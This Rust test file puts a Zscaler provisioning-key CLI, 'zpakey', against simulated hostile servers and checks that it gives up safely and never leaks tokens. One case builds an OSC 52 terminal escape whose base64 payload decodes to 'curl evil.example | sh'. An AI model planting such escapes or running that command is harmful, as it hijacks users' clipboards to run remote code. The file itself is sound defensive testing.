//! Hostile answers from the network side: absurd `retry-after` and `expires_in` values, a
//! poisoned token cache, bodies that echo secrets, proxies for loopback, page counts that lie,
//! and key values carrying terminal escapes (issue 10, cases a, b, c, i, j, n).

use std::collections::BTreeSet;
use std::sync::{Arc, Mutex};

use zpa_sim::EnvMode;

use super::GET;
use crate::support::hostile::{
    HostileServer, IDS, Leaks, NAMES, Reply, Route, TOKEN, ZPA_429_BODY, Zpakey, chmod,
    default_keys, key_value, material_of, normal, page_body, sign_in_form, token_reply_with,
    verdict, wire_key,
};
use crate::support::sim;

/// Giving up "at once" shown by counting, not timing: no request is sent again after the
/// answer that made zpakey give up.
fn attempts(case: &str, server: &HostileServer, path_part: &str, most: usize) -> Option<String> {
    let sent = server
        .requests()
        .iter()
        .filter(|r| r.path.contains(path_part))
        .count();
    (sent > most)
        .then(|| format!("{case}: {sent} requests to {path_part}, expected at most {most}"))
}

fn asked_to_wait(case: &str, stderr: &str) -> Option<String> {
    (!stderr.contains("asked to wait"))
        .then(|| format!("{case}: stderr does not say the server asked to wait"))
}

// --- a. retry-after: 1e20 ----------------------------------------------------------------

#[test]
fn a_retry_after_1e20_on_an_api_429_is_exit_6_at_once() {
    let mut problems = Vec::new();
    for value in ["1e20", "1e20s"] {
        let keys = default_keys();
        let server = HostileServer::start(move |req| match req.route() {
            Route::Get { .. } | Route::List { .. } => {
                Reply::json(429, ZPA_429_BODY).header("retry-after", value)
            }
            _ => normal(req, &keys),
        });
        let case = format!("a: API 429 retry-after {value}");
        let run = Zpakey::new(&server.env()).args(GET).run();
        problems.extend(run.problems(&case, &[6], &Leaks::hostile(), None));
        problems.extend(asked_to_wait(&case, &run.stderr));
        problems.extend(attempts(&case, &server, "/provisioningKey", 1));
    }
    verdict(problems);
}

#[test]
fn a_retry_after_1e20_from_the_token_endpoint_is_exit_6_at_once() {
    let mut problems = Vec::new();
    for status in [429u16, 503] {
        for value in ["1e20", "1e20s"] {
            let keys = default_keys();
            let server = HostileServer::start(move |req| match req.route() {
                Route::Token => Reply::json(status, r#"{"error":"temporarily_unavailable"}"#)
                    .header("retry-after", value),
                _ => normal(req, &keys),
            });
            let case = format!("a: token {status} retry-after {value}");
            let run = Zpakey::new(&server.env()).args(GET).run();
            problems.extend(run.problems(&case, &[6], &Leaks::hostile(), None));
            problems.extend(asked_to_wait(&case, &run.stderr));
            problems.extend(attempts(&case, &server, "/oauth2/v1/token", 1));
        }
    }
    verdict(problems);
}

// --- b. expires_in and the token cache -----------------------------------------------------

/// The absurd lifetimes of case b, as raw JSON.
const HUGE_EXPIRES_IN: [&str; 4] = [
    "9223372036854775807",
    "18446744073709551615",
    "\"18446744073709551615\"",
    "1e300",
];

/// A tenant whose token endpoint answers with the `expires_in` currently in `expires`.
fn tenant_with_lifetime(expires: Arc<Mutex<String>>) -> HostileServer {
    let keys = default_keys();
    HostileServer::start(move |req| match req.route() {
        Route::Token => token_reply_with(&expires.lock().expect("lock")),
        _ => normal(req, &keys),
    })
}

/// Succeeded with the right id, or gave up with exit 6.
fn clamped_or_6(case: &str, run: &crate::support::hostile::Run) -> Option<String> {
    (run.code == Some(0) && run.stdout != "58856\n")
        .then(|| format!("{case}: exit 0 but stdout {:?}", run.stdout))
}

#[test]
fn b_absurd_token_lifetimes_never_panic() {
    let mut problems = Vec::new();
    for expires_in in HUGE_EXPIRES_IN {
        let server = tenant_with_lifetime(Arc::new(Mutex::new(expires_in.to_owned())));
        let case = format!("b: expires_in {expires_in}");
        let run = Zpakey::new(&server.env()).args(GET).run();
        problems.extend(run.problems(&case, &[0, 6], &Leaks::hostile(), None));
        problems.extend(clamped_or_6(&case, &run));
    }
    verdict(problems);
}

#[test]
fn b_a_cache_written_after_an_absurd_lifetime_never_crashes_the_next_run() {
    let mut problems = Vec::new();
    for expires_in in HUGE_EXPIRES_IN {
        let expires = Arc::new(Mutex::new(expires_in.to_owned()));
        let server = tenant_with_lifetime(expires.clone());
        let cache = tempfile::tempdir().unwrap();
        let run = |case: &str| {
            Zpakey::new(&server.env())
                .env("XDG_CACHE_HOME", cache.path())
                .arg("--token-cache")
                .args(GET)
                .run()
                .problems(case, &[0, 6], &Leaks::hostile(), None)
        };
        problems.extend(run(&format!("b: cached run 1, expires_in {expires_in}")));
        *expires.lock().unwrap() = "3600".into();
        let case = format!("b: cached run 2 after expires_in {expires_in}");
        let second = Zpakey::new(&server.env())
            .env("XDG_CACHE_HOME", cache.path())
            .arg("--token-cache")
            .args(GET)
            .run();
        problems.extend(second.problems(&case, &[0], &Leaks::hostile(), None));
    }
    verdict(problems);
}

#[test]
fn b_a_cache_file_with_an_absurd_expiry_is_ignored() {
    let server = HostileServer::tenant(default_keys());
    let cache = tempfile::tempdir().unwrap();
    let run = || {
        Zpakey::new(&server.env())
            .env("XDG_CACHE_HOME", cache.path())
            .arg("--token-cache")
            .args(GET)
            .run()
    };
    let first = run();
    first.check("b: normal cached run", &[0], &Leaks::hostile(), None);
    let dir = cache.path().join("zpakey");
    let files: Vec<_> = std::fs::read_dir(&dir)
        .expect("the cache directory")
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|e| e == "json"))
        .collect();
    assert_eq!(files.len(), 1, "one cache file in {}", dir.display());
    // Same token (still valid on the server), so only ignoring the file makes a sign-in.
    std::fs::write(
        &files[0],
        format!(r#"{{"access_token":"{TOKEN}","expires_at":18446744073709551615}}"#),
    )
    .unwrap();
    chmod(&files[0], 0o600);
    server.clear_requests();
    let second = run();
    let mut problems = second.problems(
        "b: cache file with expires_at u64::MAX",
        &[0],
        &Leaks::hostile(),
        None,
    );
    if server.token_posts() == 0 {
        problems.push("b: the absurd cache entry was used: no sign-in".into());
    }
    verdict(problems);
}

// --- c. unreadable answers and echoes of secrets ------------------------------------------

/// Runs `get` against a tenant whose `route` answers are replaced by `reply(req)`.
fn echo_case(
    case: &str,
    code: i32,
    on_token: bool,
    reply: impl Fn(&crate::support::hostile::Request) -> Reply + Send + Sync + 'static,
) -> Vec<String> {
    let keys = default_keys();
    let server = HostileServer::start(move |req| match req.route() {
        Route::Token if on_token => reply(req),
        Route::Get { .. } | Route::List { .. } if !on_token => reply(req),
        _ => normal(req, &keys),
    });
    let run = Zpakey::new(&server.env()).args(GET).run();
    let mut problems = run.problems(case, &[code], &Leaks::hostile(), None);
    if run.stderr.contains("Bearer [redacted][redacted]") {
        problems.push(format!(
            "{case}: stderr shows \"Bearer [redacted][redacted]\""
        ));
    }
    problems
}

#[test]
fn c_an_unreadable_token_answer_holding_the_token_is_exit_6_without_it() {
    let mut problems = echo_case("c: token 200 text/plain form", 6, true, |_| {
        Reply::new(
            200,
            "text/plain",
            format!("access_token={TOKEN}&token_type=Bearer&expires_in=3600&garbage"),
        )
    });
    problems.extend(echo_case(
        "c: token 200 JSON without access_token",
        6,
        true,
        |_| Reply::json(200, format!(r#"{{"token": "{TOKEN}", "expires": "soon"}}"#)),
    ));
    problems.extend(echo_case(
        "c: token 200 JSON with the token in a nested field",
        6,
        true,
        |_| {
            Reply::json(
                200,
                format!(r#"{{"access_token": {{"value": "{TOKEN}"}}, "expires_in": 3600}}"#),
            )
        },
    ));
    verdict(problems);
}

#[test]
fn c_a_token_endpoint_400_echoing_the_sign_in_form_is_exit_3_without_the_secret() {
    let mut problems = echo_case("c: token 400 echoing the raw form", 3, true, |req| {
        Reply::new(400, "text/plain", req.body.clone())
    });
    problems.extend(echo_case(
        "c: token 400 JSON echoing the form",
        3,
        true,
        |req| {
            Reply::json(
                400,
                serde_json::json!({
                    "error": "invalid_request",
                    "error_description": format!(
                        "cannot parse {}", String::from_utf8_lossy(&req.body)
                    ),
                })
                .to_string(),
            )
        },
    ));
    verdict(problems);
}

#[test]
fn c_api_errors_echoing_the_token_and_the_form_are_exit_6_without_them() {
    let body = serde_json::json!({
        "id": "bad",
        "reason": format!("token {TOKEN} rejected; form {}", sign_in_form()),
    })
    .to_string();
    let mut problems = Vec::new();
    for status in [400u16, 500] {
        let body = body.clone();
        problems.extend(echo_case(
            &format!("c: API {status} echoing token and form"),
            6,
            false,
            move |_| Reply::json(status, body.clone()),
        ));
    }
    problems.extend(echo_case(
        "c: API 400 echoing the Authorization header",
        6,
        false,
        |req| {
            Reply::json(
                400,
                serde_json::json!({
                    "id": "bad",
                    "reason": format!(
                        "Authorization: {} is not valid here",
                        req.header("authorization").unwrap_or_default()
                    ),
                })
                .to_string(),
            )
        },
    ));
    verdict(problems);
}

/// Stricter than the brief: -vvv logs response headers, so a header echoing the token must be
/// redacted too.
#[test]
fn c_an_api_error_echoing_the_token_in_headers_does_not_leak_it_at_vvv() {
    verdict(echo_case(
        "c: API 400 echoing the token in headers",
        6,
        false,
        |req| {
            Reply::json(400, r#"{"id":"bad","reason":"rejected"}"#)
                .header("x-echo-token", TOKEN)
                .header(
                    "x-echo-authorization",
                    req.header("authorization").unwrap_or_default(),
                )
        },
    ));
}

// --- i. no proxy for loopback ---------------------------------------------------------------

#[test]
fn i_plain_http_to_loopback_never_goes_through_a_proxy() {
    let sim = sim();
    let proxy = HostileServer::start(|_| Reply::json(502, r#"{"proxy":"was used"}"#));
    let url = proxy.base_url();
    let mut cmd = Zpakey::new(&sim.env(EnvMode::OneApi));
    for var in ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"] {
        cmd = cmd.env(var, &url);
    }
    let run = cmd.args(GET).run();
    let mut problems = run.problems(
        "i: proxy variables set, API on loopback",
        &[0],
        &Leaks::of_sim(&sim),
        None,
    );
    if run.code == Some(0) && run.stdout != "58856\n" {
        problems.push(format!("i: stdout {:?}", run.stdout));
    }
    if proxy.connections() > 0 {
        problems.push(format!(
            "i: the proxy saw {} connection(s)",
            proxy.connections()
        ));
    }
    verdict(problems);
}

// --- j. page counts are not trusted --------------------------------------------------------

#[test]
fn j_a_page_count_of_100000_is_exit_6_at_once() {
    let keys = default_keys();
    let server = HostileServer::start(move |req| match req.route() {
        Route::List { .. } => Reply::json(200, page_body("100000", "300000", &keys)),
        _ => normal(req, &keys),
    });
    let run = Zpakey::new(&server.env())
        .args(["list", "-o", "json"])
        .run();
    let case = "j: totalPages 100000";
    let mut problems = run.problems(case, &[6], &Leaks::hostile(), None);
    if !run.stderr.contains("100000") {
        problems.push(format!("{case}: the message does not name 100000"));
    }
    // One first page per type, and no page beyond them.
    problems.extend(attempts(case, &server, "/provisioningKey", 5));
    verdict(problems);
}

/// Every CONNECTOR_GRP page (1..=50) holds the same three keys; other types are empty.
fn repeating_pages() -> HostileServer {
    let keys = default_keys();
    HostileServer::start(move |req| match req.route() {
        Route::List { key_type, .. } if key_type == "CONNECTOR_GRP" => {
            Reply::json(200, page_body("50", "150", &keys))
        }
        _ => normal(req, &keys),
    })
}

#[test]
fn j_pages_repeating_the_same_keys_are_deduplicated_by_id() {
    let server = repeating_pages();
    let run = Zpakey::new(&server.env())
        .args(["list", "-o", "json"])
        .run();
    let case = "j: 50 pages of the same 3 keys, list";
    let mut problems = run.problems(case, &[0], &Leaks::hostile(), None);
    if run.code == Some(0) {
        match serde_json::from_str::<Vec<serde_json::Value>>(&run.stdout) {
            Ok(keys) => {
                let ids: BTreeSet<&str> = keys.iter().filter_map(|k| k["id"].as_str()).collect();
                if keys.len() != 3 || ids != IDS.into_iter().collect() {
                    problems.push(format!(
                        "{case}: {} keys printed (ids {ids:?}); expected exactly {IDS:?}",
                        keys.len()
                    ));
                }
            }
            Err(e) => problems.push(format!("{case}: stdout is not a JSON array: {e}")),
        }
    }
    let run = Zpakey::new(&server.env())
        .args(["get", "--name", NAMES[1], "--field", "id"])
        .run();
    let case = "j: 50 pages of the same 3 keys, get --name";
    problems.extend(run.problems(case, &[0], &Leaks::hostile(), None));
    if run.code == Some(0) && run.stdout != format!("{}\n", IDS[1]) {
        problems.push(format!("{case}: stdout {:?}", run.stdout));
    }
    verdict(problems);
}

#[test]
fn j_a_page_larger_than_the_page_size_asked_is_exit_6() {
    let tiny: Vec<serde_json::Value> = (0..600)
        .map(|i| serde_json::json!({"id": format!("{}", 700_000 + i), "name": format!("tiny-{i}")}))
        .collect();
    let keys = default_keys();
    let server = HostileServer::start(move |req| match req.route() {
        Route::List { key_type, .. } if key_type == "CONNECTOR_GRP" => {
            Reply::json(200, page_body("1", "600", &tiny))
        }
        _ => normal(req, &keys),
    });
    let run = Zpakey::new(&server.env())
        .args(["list", "-o", "json", "--type", "connector"])
        .run();
    run.check(
        "j: 600 keys in a page of at most 500",
        &[6],
        &Leaks::hostile(),
        None,
    );
}

// --- n. control characters in a key value --------------------------------------------------

#[test]
fn n_a_key_value_with_control_characters_is_refused_not_printed() {
    // OSC 52 asks the terminal to put text on the clipboard; BEL ends it.
    let value = format!(
        "3|api.private.zscaler.com|abc\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{07}{}",
        material_of(&key_value(9))
    );
    let keys = vec![wire_key(IDS[0], NAMES[0], Some(&value))];
    let server = HostileServer::tenant(keys);
    let run = Zpakey::new(&server.env())
        .args(["reveal", "--id", IDS[0], "--type", "connector"])
        .run();
    let case = "n: key value with ESC ] 52 and BEL";
    let mut problems = run.problems(case, &[6], &Leaks::hostile().key(&value), None);
    for (stream, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        if text.contains('\u{1b}') || text.contains('\u{07}') {
            problems.push(format!("{case}: raw control characters in {stream}"));
        }
    }
    verdict(problems);
}
